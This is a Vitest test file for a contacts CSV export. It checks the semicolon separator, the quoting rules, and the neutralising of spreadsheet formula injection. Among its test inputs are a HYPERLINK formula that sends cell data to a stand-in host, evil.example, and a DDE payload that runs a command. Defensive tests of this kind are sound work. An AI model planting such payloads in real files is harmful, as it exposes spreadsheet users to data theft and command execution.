import { describe, expect, test } from 'vitest';
import { contactsCsv } from './contacts-export';

describe('contact CSV export (management.md section 9: semicolon separator; name, number, email)', () => {
  test('one header line and one line per contact, separated by semicolons', () => {
    expect(
      contactsCsv([
        { name: 'Ana', number: '5511999990001', email: 'ana@x.dev' },
        { name: 'Bob', number: '5511999990002', email: null },
      ]),
    ).toBe('name;number;email\r\nAna;5511999990001;ana@x.dev\r\nBob;5511999990002;\r\n');
  });
  test('values holding a semicolon, a quote or a line break are quoted', () => {
    expect(contactsCsv([{ name: 'Silva; Ana "Aninha"', number: '1', email: '' }]).split('\r\n')[1]).toBe(
      '"Silva; Ana ""Aninha""";1;',
    );
  });
  test('cells a spreadsheet would run as a formula (= + - @ tab CR first) are prefixed with an apostrophe', () => {
    const csv = contactsCsv([
      { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', number: '1', email: '' },
      { name: "+cmd|' /C calc'!A0", number: '-2', email: '@SUM(1+1)' },
      { name: '\tTab', number: '\r3', email: 'ana@x.dev' },
      { name: 'Ana = Bob', number: '5511', email: '' },
    ]).split('\r\n');
    expect(csv[1]).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")";1;');
    expect(csv[2]).toBe("'+cmd|' /C calc'!A0;'-2;'@SUM(1+1)");
    expect(csv[3]).toBe('\'\tTab;"\'\r3";ana@x.dev');
    expect(csv[4]).toBe('Ana = Bob;5511;');
  });
});
